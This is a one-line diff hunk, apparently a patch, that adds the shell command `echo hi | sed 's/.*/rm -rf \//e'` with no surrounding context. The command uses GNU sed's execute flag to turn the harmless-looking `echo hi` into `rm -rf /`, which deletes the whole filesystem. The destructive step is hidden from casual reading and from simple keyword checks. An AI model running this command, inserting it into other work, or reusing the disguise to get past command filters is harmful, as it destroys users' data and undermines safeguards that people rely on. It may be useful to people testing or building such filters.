@@ -1,0 +1,1 @@
+echo hi | sed 's/.*/rm -rf \//e'
